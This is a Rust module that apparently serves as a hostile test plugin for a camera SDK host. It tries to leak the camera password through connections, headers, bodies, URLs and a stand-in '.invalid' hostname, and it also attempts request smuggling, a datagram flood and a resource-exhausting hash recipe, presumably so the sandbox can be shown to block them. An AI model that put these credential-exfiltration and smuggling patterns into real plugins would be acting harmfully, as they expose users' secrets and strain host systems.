//! Misdeeds towards other addresses, and with the camera's secrets.

use padelvar_sdk::wit::{
    ConnectRequest, Credential, CredentialRecipe, DatagramToSend, Encoding, HashAlgorithm,
    HashPart, HashStep, HttpRequest, LogLevel, LogLine, MulticastRequest, Recipe, RequestHeader,
    SendRequest,
};
use padelvar_sdk::{Command, Event, Segment};

use crate::orders::Orders;
use crate::{fail, not_stopped};

const ID: u32 = 1;

/// Where an attempt stands.
#[derive(Default)]
pub struct Progress {
    redirected: bool,
}

/// `connect`, `datagram`, `datagrams`, `multicast`, `request`, `redirect`: to the target.
/// `secret-connect`, `secret-request`, `secret-body`, `secret-url`, `secret-host`: the password
/// there. `echo`, `echo-log`, `echo-panic`: the password to the camera, telling what comes back.
/// `hash-bomb`: a recipe that costs. `smuggle`: headers that are the host's.
pub fn begin(orders: &Orders, _progress: &mut Progress) -> Option<Vec<Command>> {
    Some(match orders.misdeed.as_str() {
        "connect" | "secret-connect" | "echo" | "echo-log" | "echo-panic" | "hash-bomb" => {
            vec![connect(orders)]
        }
        "datagram" | "datagrams" => vec![Command::BindDatagramPair(ID)],
        "multicast" => vec![Command::JoinMulticast(MulticastRequest {
            port: ID,
            group: orders.host.clone(),
            rtp_port: orders.port,
            source: None,
        })],
        "request" | "redirect" => vec![request(&orders.url, vec![], vec![])],
        "secret-request" => vec![request(
            &orders.url,
            vec![header("x-password", vec![password()])],
            vec![],
        )],
        "secret-body" => vec![request(&orders.url, vec![], vec![password()])],
        "secret-url" => vec![request(
            &format!("{}?{{password}}", orders.url),
            vec![],
            vec![],
        )],
        "secret-host" => vec![request("http://{password}.invalid/", vec![], vec![])],
        "smuggle" => {
            let plain = |text: &str| vec![Segment::Bytes(text.as_bytes().to_vec())];
            let headers = vec![
                header("host", plain("other.invalid")),
                header("content-length", plain("3")),
                header("transfer-encoding", plain("chunked")),
                header("connection", plain("upgrade")),
            ];
            vec![request(
                &orders.url,
                headers,
                plain("GET /second HTTP/1.1\r\n\r\n"),
            )]
        }
        _ => return None,
    })
}

/// Goes on where the host lets it.
pub fn go_on(orders: &Orders, progress: &mut Progress, event: &Event) -> Option<Vec<Command>> {
    Some(match (orders.misdeed.as_str(), event) {
        ("connect", Event::Connected(_)) => {
            let hello = Segment::Bytes(b"I am in".to_vec());
            [vec![send(vec![hello])], not_stopped("connected")].concat()
        }
        ("secret-connect" | "echo" | "echo-log" | "echo-panic", Event::Connected(_)) => {
            vec![send(vec![password(), Segment::Bytes(b"\r\n\r\n".to_vec())])]
        }
        ("hash-bomb", Event::Connected(_)) => vec![send(vec![hash_bomb()])],
        ("secret-connect", Event::Received(_)) => not_stopped("the secret went out"),
        ("echo", Event::Received(got)) => {
            vec![fail(format!(
                "it says {}",
                String::from_utf8_lossy(&got.bytes)
            ))]
        }
        ("echo-log", Event::Received(got)) => {
            let message = String::from_utf8_lossy(&got.bytes).into_owned();
            let level = LogLevel::Error;
            vec![Command::Log(LogLine { level, message }), fail("logged")]
        }
        ("echo-panic", Event::Received(got)) => {
            panic!("it says {}", String::from_utf8_lossy(&got.bytes))
        }
        ("datagram", Event::Bound(_)) => vec![datagram(orders)],
        ("datagrams", Event::Bound(_)) => vec![datagram(orders); 4000],
        ("multicast", Event::Bound(_)) => not_stopped("joined"),
        ("redirect", Event::Response(response)) if !progress.redirected => {
            let location = response.headers.iter().find(|h| h.name == "location");
            progress.redirected = true;
            match location {
                // The first answer's body is not wanted any more.
                Some(location) => vec![
                    Command::Cancel(ID),
                    request(&location.value, vec![], vec![]),
                ],
                None => vec![fail("the camera did not redirect")],
            }
        }
        (_, Event::Response(response)) => {
            not_stopped(&format!("an answer with status {}", response.status))
        }
        (_, Event::Failed(failure)) => vec![fail(failure.error.message.clone())],
        (_, Event::PortFailed(failure)) => vec![fail(failure.error.message.clone())],
        (_, Event::RequestFailed(failure)) => vec![fail(failure.error.message.clone())],
        (_, Event::Closed(_)) => vec![fail("the camera closed the connection")],
        _ => return None,
    })
}

fn connect(orders: &Orders) -> Command {
    Command::Connect(ConnectRequest {
        id: ID,
        host: orders.host.clone(),
        port: orders.port,
        tls: false,
    })
}

fn datagram(orders: &Orders) -> Command {
    Command::SendDatagram(DatagramToSend {
        port: ID,
        component: padelvar_sdk::wit::Component::Rtp,
        host: orders.host.clone(),
        to_port: orders.port,
        bytes: b"I am in".to_vec(),
    })
}

fn send(segments: Vec<Segment>) -> Command {
    Command::Send(SendRequest {
        connection: ID,
        segments,
        base64: false,
    })
}

fn request(url: &str, headers: Vec<RequestHeader>, body: Vec<Segment>) -> Command {
    Command::Request(HttpRequest {
        id: ID,
        method: if body.is_empty() { "GET" } else { "POST" }.into(),
        url: url.into(),
        headers,
        body,
        header_timeout_ms: 3000,
        idle_timeout_ms: 3000,
    })
}

fn header(name: &str, value: Vec<Segment>) -> RequestHeader {
    RequestHeader {
        name: name.into(),
        value,
    }
}

fn password() -> Segment {
    Segment::Secret(Recipe::Credential(CredentialRecipe {
        which: Credential::Password,
        encoding: Encoding::Plain,
    }))
}

/// As many steps as an answer holds, each as long as a step may be.
fn hash_bomb() -> Segment {
    let step = HashStep {
        algorithm: HashAlgorithm::Sha256,
        parts: vec![HashPart::Bytes(vec![0; 60_000]), HashPart::Password],
        encoding: Encoding::HexUpper,
    };
    Segment::Secret(Recipe::Hash(vec![step; 250]))
}
